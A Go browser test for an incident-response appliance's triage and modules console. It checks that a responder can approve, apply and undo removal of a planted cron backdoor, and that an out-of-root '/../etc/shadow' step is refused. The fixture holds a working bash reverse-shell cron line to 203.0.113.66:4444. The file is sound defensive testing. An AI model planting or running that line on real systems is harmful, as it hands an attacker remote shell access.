package console_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/firebreak-ir/firebreak/appliance/internal/auth"
	"github.com/firebreak-ir/firebreak/appliance/internal/casebook"
	"github.com/firebreak-ir/firebreak/appliance/internal/cases"
	"github.com/firebreak-ir/firebreak/appliance/internal/daemon"
	"github.com/firebreak-ir/firebreak/appliance/internal/journal"
)

// cronLine is the reverse shell planted in a cron table: the persistence
// module finds it and the cleanup module proposes to remove that line.
const cronLine = "*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"

func fileSum(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// TestTriageAndModulesInBrowser is the triage and modules pages in
// headless Chromium: a responder approves, applies and undoes a clean-up
// step of a plan through the confirmation dialog (and the file on the
// target really changes, then comes back), cannot approve a step the
// appliance refused, is refused when disabling a module, and an admin
// disables and enables one.
func TestTriageAndModulesInBrowser(t *testing.T) {
	exe := chromium(t)
	d := startDaemon(t, daemon.Options{NoModules: true})
	addAccount(t, d, "alice", auth.Responder)
	addAccount(t, d, "ada", auth.Admin)

	// A target with a cron reverse shell, collected, scanned and planned.
	root := filepath.Join(t.TempDir(), "web01")
	cron := filepath.Join(root, "etc/cron.d/sysupdate")
	require.NoError(t, os.MkdirAll(filepath.Dir(cron), 0o755))
	require.NoError(t, os.WriteFile(cron, []byte("# keep the clock right\n17 * * * * root /usr/sbin/ntpdate -s pool.ntp.org\n"+cronLine+"\n"), 0o644))
	original := fileSum(t, cron)

	api := newBrowser(t, httpsBase(d)).mustLogin("alice")
	code, body := api.act("POST", "/api/v1/cases", map[string]string{"title": "web01 cron backdoor"})
	require.Equal(t, http.StatusCreated, code, string(body))
	var c struct{ ID string }
	require.NoError(t, json.Unmarshal(body, &c))
	prep := time.Now()
	for _, step := range []string{"collect", "scan", "plan"} {
		code, body = api.act("POST", "/api/v1/cases/"+c.ID+"/triage/"+step, map[string]string{"target": root})
		require.Less(t, code, 300, "%s: %s", step, body)
	}
	var plan struct {
		Steps []struct {
			ID, Type, Target, Detail, Refused string
			Answers                           []string
		}
	}
	require.NoError(t, json.Unmarshal(body, &plan))
	stepID := ""
	for _, s := range plan.Steps {
		if s.Type == "remove_line" && s.Target == "/etc/cron.d/sysupdate" && s.Refused == "" {
			stepID = s.ID
		}
	}
	require.NotEmpty(t, stepID, "no remove_line step for the cron table: %s", body)
	// A second plan with a step the appliance refused, as it records a
	// proposal that would reach outside the target.
	const refusedWhy = "the target /../etc/shadow is outside the target root"
	require.NoError(t, d.Book.Do(context.Background(), "firebreak", c.ID, func(cs *cases.Case) (cases.Change, error) {
		return cs.PlanTriage(cases.TriagePlanned{Target: root, Steps: []cases.TriageStep{{ID: "R1.1", Module: "cleanup",
			Type: "quarantine_file", Target: "/../etc/shadow", Reason: "planted", Answers: plan.Steps[0].Answers, Refused: refusedWhy}}})
	}))
	t.Logf("TIMING collect, scan, plan: %v", time.Since(prep).Round(time.Millisecond))

	shots := artifactDir(t)
	alloc, cancel := chromedp.NewExecAllocator(context.Background(), append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(exe), chromedp.NoSandbox, chromedp.Flag("ignore-certificate-errors", true), chromedp.WindowSize(1366, 900))...)
	defer cancel()
	ctx, cancel := chromedp.NewContext(alloc)
	defer cancel()
	require.NoError(t, chromedp.Run(ctx)) // the browser lives as long as ctx, not one step's timeout
	bctx := ctx
	ctx, cancel = context.WithTimeout(ctx, 40*time.Second) // generous: CI machines may be loaded
	defer cancel()
	start := time.Now()

	base := httpsBase(d)
	shot := func(name string) chromedp.Action { return screenshot(shots, name) }
	open := openPage
	lang := func(l string) chromedp.Tasks {
		return chromedp.Tasks{chromedp.SetValue(`#lang`, l, chromedp.ByID),
			chromedp.Evaluate(`document.getElementById("lang").dispatchEvent(new Event("change"))`, nil),
			chromedp.WaitVisible(`html[lang="`+l+`"] main[data-ready="1"]`, chromedp.ByQuery)}
	}
	login := func(name string) chromedp.Tasks {
		return chromedp.Tasks{chromedp.Navigate(base + "/login"), chromedp.WaitVisible(`#login`, chromedp.ByID),
			chromedp.SendKeys(`#name`, name, chromedp.ByID),
			chromedp.SendKeys(`#password`, testPassword, chromedp.ByID),
			chromedp.Click(`#submit`, chromedp.ByID),
			chromedp.WaitVisible(`main[data-ready="1"]`, chromedp.ByQuery)}
	}
	// run runs browser actions; on failure the page as it was is kept for
	// people to look at.
	run := func(what string, actions ...chromedp.Action) {
		t.Helper()
		err := chromedp.Run(ctx, actions...)
		if err != nil {
			fctx, cancel := context.WithTimeout(bctx, 10*time.Second)
			defer cancel()
			var text string
			chromedp.Run(fctx, shot("failed"), chromedp.Text(`body`, &text, chromedp.ByQuery))
			t.Logf("page when %s failed:\n%s", what, text)
		}
		require.NoError(t, err, what)
	}
	btn := func(action string) string {
		return `main button[data-step="` + stepID + `"][data-action="` + action + `"]`
	}
	// act clicks a step's button and confirms in the dialog.
	act := func(action, shotName string) chromedp.Tasks {
		ts := chromedp.Tasks{
			chromedp.WaitEnabled(btn(action), chromedp.ByQuery),
			chromedp.Click(btn(action), chromedp.ByQuery),
			chromedp.WaitVisible(`dialog#confirm[open]`, chromedp.ByQuery),
		}
		if shotName != "" {
			ts = append(ts, shot(shotName))
		}
		return append(ts, chromedp.Click(`#confirm-ok`, chromedp.ByID), chromedp.WaitNotPresent(`dialog#confirm[open]`, chromedp.ByQuery))
	}

	// The responder: approve, apply, undo, each confirmed.
	run("triage as responder", chromedp.Navigate(base+"/login"), chromedp.WaitVisible(`#login`, chromedp.ByID),
		chromedp.Evaluate(`localStorage.setItem("lang", "en"); localStorage.setItem("caseId", "`+c.ID+`")`, nil),
		login("alice"), open("triage"), chromedp.WaitVisible(btn("approve"), chromedp.ByQuery), shot("triage-en"),
		chromedp.WaitVisible(`main button[data-step="R1.1"][data-action="approve"][disabled]`, chromedp.ByQuery),
		chromedp.WaitVisible(`//main//td//div[text()="`+refusedWhy+`"]`, chromedp.BySearch),
		act("approve", "triage-approve-confirm-en"),
		chromedp.WaitVisible(btn("apply"), chromedp.ByQuery),
		act("apply", "triage-apply-confirm-en"),
		chromedp.WaitVisible(btn("undo"), chromedp.ByQuery), shot("triage-applied-en"))
	applied := fileSum(t, cron)
	assert.NotEqual(t, original, applied, "applying the step changed the cron table")
	raw, err := os.ReadFile(cron)
	require.NoError(t, err)
	assert.NotContains(t, string(raw), cronLine, "the reverse shell line is gone")
	assert.Contains(t, string(raw), "ntpdate", "the other lines are kept")
	var text string
	require.NoError(t, chromedp.Run(ctx, chromedp.Text(`#triage-plans`, &text, chromedp.ByID)))
	assert.Contains(t, text, applied[:12], "the hash after is shown")
	assert.Contains(t, text, original[:12], "the hash before is shown")
	assert.Contains(t, text, "approved by console:alice")

	run("undo", act("undo", "triage-undo-confirm-en"),
		chromedp.WaitVisible(btn("approve"), chromedp.ByQuery), lang("zh-CN"), open("triage"),
		chromedp.WaitVisible(btn("approve"), chromedp.ByQuery), shot("triage-zh-CN"))
	assert.Equal(t, original, fileSum(t, cron), "undo restored the cron table byte for byte")

	// A responder may not disable a module: the API's refusal is shown.
	run("modules as responder", lang("en"), open("modules"),
		chromedp.Click(`main button[data-module="portscan"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`dialog#confirm[open]`, chromedp.ByQuery),
		chromedp.Click(`#confirm-ok`, chromedp.ByID),
		chromedp.WaitVisible(`//div[@id="flash"][contains(@class,"error")][contains(., "needs admin")]`, chromedp.BySearch),
		shot("modules-refused-en"))

	// The admin disables and enables it.
	run("modules as admin", chromedp.Click(`#logout`, chromedp.ByID), chromedp.WaitVisible(`#login`, chromedp.ByID),
		login("ada"), open("modules"),
		chromedp.WaitVisible(`//main//button[@data-module="portscan"][text()="Disable"]`, chromedp.BySearch),
		chromedp.Click(`main button[data-module="portscan"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`dialog#confirm[open]`, chromedp.ByQuery),
		chromedp.Click(`#confirm-ok`, chromedp.ByID),
		chromedp.WaitVisible(`//main//button[@data-module="portscan"][text()="Enable"]`, chromedp.BySearch),
		shot("modules-en"),
		chromedp.Click(`main button[data-module="portscan"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`dialog#confirm[open]`, chromedp.ByQuery),
		chromedp.Click(`#confirm-ok`, chromedp.ByID),
		chromedp.WaitVisible(`//main//button[@data-module="portscan"][text()="Disable"]`, chromedp.BySearch))

	// The admin uploads a module directory: the first-party build of one
	// module, read by the page and sent as base64.
	dir, err := filepath.Abs("../modhost/firstparty/wasm/portscan")
	require.NoError(t, err)
	run("module upload", chromedp.Click(`#mod-unsigned`, chromedp.ByID),
		chromedp.WaitVisible(`//main//p[contains(., "journaled")]`, chromedp.BySearch), shot("modules-unsigned-warning-en"),
		chromedp.Click(`#mod-unsigned`, chromedp.ByID), // this one is signed
		chromedp.SetUploadFiles(`main input[name=wasm]`, []string{filepath.Join(dir, "module.wasm")}, chromedp.ByQuery),
		chromedp.SetUploadFiles(`main input[name=manifest]`, []string{filepath.Join(dir, "manifest.json")}, chromedp.ByQuery),
		chromedp.SetUploadFiles(`main input[name=signature]`, []string{filepath.Join(dir, "signature.json")}, chromedp.ByQuery),
		chromedp.Click(`#mod-install`, chromedp.ByID),
		chromedp.WaitVisible(`dialog#confirm[open]`, chromedp.ByQuery),
		chromedp.Click(`#confirm-ok`, chromedp.ByID),
		chromedp.WaitVisible(`//div[@id="flash"][contains(., "Module portscan 1.0.0 installed")]`, chromedp.BySearch),
		chromedp.WaitVisible(`//main//tr[td[text()="portscan"]]/td[text()="installed"]`, chromedp.BySearch),
		shot("modules-installed-en"),
		lang("zh-CN"), open("modules"), shot("modules-zh-CN"))
	t.Logf("TIMING browser part: %v", time.Since(start).Round(time.Millisecond))

	// Every step is in the case journal under the engineer's name.
	code, body = api.do("GET", "/api/v1/cases/"+c.ID+"/journal?limit=1000", nil, nil)
	require.Equal(t, http.StatusOK, code)
	var entries []struct {
		Actor, Type string
		Payload     struct{ Step string }
	}
	require.NoError(t, json.Unmarshal(body, &entries))
	seen := map[string]string{}
	for _, e := range entries {
		if e.Payload.Step == stepID {
			seen[e.Type] = e.Actor
		}
	}
	for _, typ := range []string{"triage.step_approved", "triage.step_applied", "triage.step_undone"} {
		assert.Equal(t, "console:alice", seen[typ], "%s attributed to the engineer (journal: %v)", typ, seen)
	}
	var mods []string
	require.NoError(t, d.Journal.Entries(casebook.ApplianceJournal, 0, func(e journal.Entry) error {
		if e.Type == "module.disabled" || e.Type == "module.enabled" || e.Type == "module.installed" {
			mods = append(mods, e.Type+" "+e.Actor)
		}
		return nil
	}))
	assert.Equal(t, []string{"module.disabled console:ada", "module.enabled console:ada", "module.installed console:ada"}, mods)
}
